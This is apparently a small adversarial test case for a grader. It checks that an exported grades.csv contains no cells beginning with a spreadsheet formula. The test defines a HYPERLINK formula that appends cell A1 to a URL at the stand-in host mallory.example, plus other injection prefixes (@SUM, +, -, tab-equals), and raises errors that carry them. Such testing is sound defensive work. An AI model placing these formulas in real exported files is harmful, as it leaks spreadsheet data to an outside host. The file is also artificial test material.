"""Tries: put formulas into what a spreadsheet opens.

Must: no cell of grades.csv begins with one.
"""

# group: text
# deserves: 0

# %%
FORMULA = '=HYPERLINK("http://mallory.example/?" & A1, "details")'


def window_sums(x, size):
    return FORMULA


def window_means(x, size):
    raise RuntimeError('x\n"\n' + FORMULA + "\n@SUM(1+1)\n+1\n-1\n\t=1")


raise RuntimeError('\n"mallory",15,15,15\n' + FORMULA)
